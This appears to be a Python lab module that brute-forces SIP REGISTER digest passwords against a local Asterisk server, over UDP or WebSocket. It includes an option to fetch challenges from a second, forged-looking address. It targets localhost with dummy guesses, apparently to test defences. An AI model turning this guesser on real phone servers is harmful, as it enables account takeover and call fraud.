"""Somebody who tries passwords, over UDP or as a browser's phone, as fast as the answers come.

`python -m lab.attacks.guesser KIND PORT ADDRESS USER PAUSE [ELSEWHERE]` does it, with PAUSE seconds between two tries.
KIND is UDP or WS. Challenges are fetched from the address ELSEWHERE if it is given, as if ADDRESS were forged.
"""

import asyncio
import itertools
import secrets
import struct
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Self

from lab.attacks.program import say, until_over
from lab.phone.digest import Challenge, Credentials
from lab.phone.message import Response, parse

PATIENCE = 5.0

HANDSHAKE = (
    b"GET /ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: sip\r\n\r\n"
)
"""What a browser's phone sends first."""


def frame(message: bytes) -> bytes:
    """A SIP message for a WebSocket: one text frame with a mask of zeros, RFC 6455, 5.2."""
    length = bytes([0x80 | len(message)]) if len(message) < 126 else struct.pack("!BH", 0x80 | 126, len(message))
    return b"\x81" + length + bytes(4) + message


@dataclass
class Tried:
    """The answer to a password, and the seconds that it took."""

    status: int
    seconds: float
    reason: str = ""
    headers: list[str] = field(default_factory=list)


class Guesser(asyncio.DatagramProtocol):
    """`async with Guesser(server, "127.0.0.2") as guesser:` comes from that address."""

    protocol = "UDP"

    def __init__(self, server: tuple[str, int], address: str = "127.0.0.1") -> None:
        self.server, self.address = server, address
        self._waiting: dict[str, asyncio.Future[Response]] = {}

    async def __aenter__(self) -> Self:
        loop = asyncio.get_running_loop()
        self._transport, _ = await loop.create_datagram_endpoint(lambda: self, local_addr=(self.address, 0))
        self.port = self._transport.get_extra_info("sockname")[1]
        return self

    async def __aexit__(self, *_: object) -> None:
        self._transport.close()

    def datagram_received(self, data: bytes, addr: object) -> None:
        message = parse(data)
        if isinstance(message, Response) and message.status >= 200:
            waiting = self._waiting.pop(message.branch, None)
            if waiting is not None and not waiting.done():
                waiting.set_result(message)

    def _send(self, message: bytes) -> None:
        self._transport.sendto(message, self.server)

    async def challenged(self, user: str, call_id: str = "") -> Challenge:
        """What the server asks of this user. AssertionError if it answers something else than 401."""
        answer = await self.send(user, call_id=call_id)
        assert answer.status == 401, answer
        return Challenge.parse(answer.require("WWW-Authenticate"))

    async def guess(
        self,
        user: str,
        password: str,
        challenge: Challenge | None = None,
        *,
        name: str | None = None,
        call_id: str = "",
    ) -> Tried:
        """Try a password. `challenge`: an earlier one, which spares a round. `name`: the user in the credentials."""
        challenge = challenge or await self.challenged(user)
        began = time.perf_counter()
        answer = await self.send(user, Credentials(name or user, password), challenge, call_id)
        return Tried(
            answer.status,
            time.perf_counter() - began,
            answer.reason,
            [name for name, _ in answer.headers],
        )

    async def send(
        self,
        user: str,
        credentials: Credentials | None = None,
        challenge: Challenge | None = None,
        call_id: str = "",
    ) -> Response:
        host, port = self.server
        branch, uri = f"z9hG4bK{secrets.token_hex(8)}", f"sip:{host}:{port}"
        lines = [
            f"REGISTER {uri} SIP/2.0",
            f"Via: SIP/2.0/{self.protocol} {self.address}:{self.port};branch={branch};rport",
            f"From: <sip:{user}@{host}>;tag={secrets.token_hex(6)}",
            f"To: <sip:{user}@{host}>",
            f"Call-ID: {call_id or secrets.token_hex(8)}",
            "CSeq: 1 REGISTER",
            f"Contact: <sip:{user}@{self.address}:{self.port}>",
            "Max-Forwards: 70",
            "Expires: 60",
        ]
        if credentials is not None and challenge is not None:
            lines.append(
                f"Authorization: {credentials.answer(challenge, 'REGISTER', uri, cnonce=secrets.token_hex(4))}"
            )
        waiting: asyncio.Future[Response] = asyncio.get_running_loop().create_future()
        self._waiting[branch] = waiting
        self._send("\r\n".join([*lines, "Content-Length: 0", "", ""]).encode())
        async with asyncio.timeout(PATIENCE):
            return await waiting


class BrowserGuesser(Guesser):
    """The same over a WebSocket, which proves the address. `server`: where Asterisk has its WebSocket."""

    protocol = "WS"

    async def __aenter__(self) -> Self:
        reader, self._writer = await asyncio.open_connection(*self.server, local_addr=(self.address, 0))
        self.port = self._writer.get_extra_info("sockname")[1]
        self._writer.write(HANDSHAKE)
        async with asyncio.timeout(PATIENCE):
            assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 101 ")
        self._reading = asyncio.create_task(self._read(reader))
        return self

    async def __aexit__(self, *_: object) -> None:
        self._reading.cancel()
        await asyncio.wait({self._reading})
        self._writer.close()

    def _send(self, message: bytes) -> None:
        self._writer.write(frame(message))

    async def _read(self, reader: asyncio.StreamReader) -> None:
        while True:
            _, length = await reader.readexactly(2)
            if length == 126:
                (length,) = struct.unpack("!H", await reader.readexactly(2))
            self.datagram_received(await reader.readexactly(length), None)


CHALLENGES = 100
"""Tries with one challenge that was fetched elsewhere."""


async def guess(kind: str, server: tuple[str, int], address: str, user: str, pause: float, elsewhere: str = "") -> None:
    tried = Counter[int]()

    async def tries() -> None:
        made = Guesser if kind == "UDP" else BrowserGuesser
        async with made(server, address) as guesser, Guesser(server, elsewhere or address) as other:
            say("begun")
            challenge = None
            for number in itertools.count():
                try:
                    if elsewhere and number % CHALLENGES == 0:
                        challenge = await other.challenged(user)
                    tried[(await guesser.guess(user, f"guess-{number}", challenge)).status] += 1
                except TimeoutError:  # the packet is lost, or its answer
                    tried[0] += 1
                await asyncio.sleep(pause)

    await until_over(tries())
    say(
        f"{tried.total():,} passwords: " + ", ".join(f"{count:,} got {status}" for status, count in tried.most_common())
    )


if __name__ == "__main__":
    kind, port, address, user, pause, *elsewhere = sys.argv[1:]
    asyncio.run(guess(kind, ("127.0.0.1", int(port)), address, user, float(pause), *elsewhere))
